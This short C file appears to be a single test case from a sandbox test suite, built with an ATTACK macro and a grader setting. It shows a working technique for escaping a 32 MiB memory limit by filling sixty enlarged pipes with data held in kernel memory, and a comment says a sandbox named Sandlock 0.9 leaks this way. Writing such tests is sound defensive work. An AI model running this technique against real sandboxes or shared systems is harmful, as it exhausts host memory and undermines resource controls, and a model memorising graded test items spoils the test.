#include "attack.h"
// Data in pipes is kernel memory; Sandlock 0.9 leaks. Limit 32 MiB, 60 are tried.
ATTACK(.judge = "measure:memory:48", .limits = "mem=32M", .stage = "queued") {
  static char block[1 << 20];
  for (int i = 0; i < 60; i++) {
    int p[2];
    if (pipe(p)) { note("pipe"); break; }
    fcntl(p[1], F_SETPIPE_SZ, 1 << 20);
    fcntl(p[1], F_SETFL, O_NONBLOCK);
    if (write(p[1], block, sizeof block) <= 0) { note("write"); break; }
  }
  hold();
}
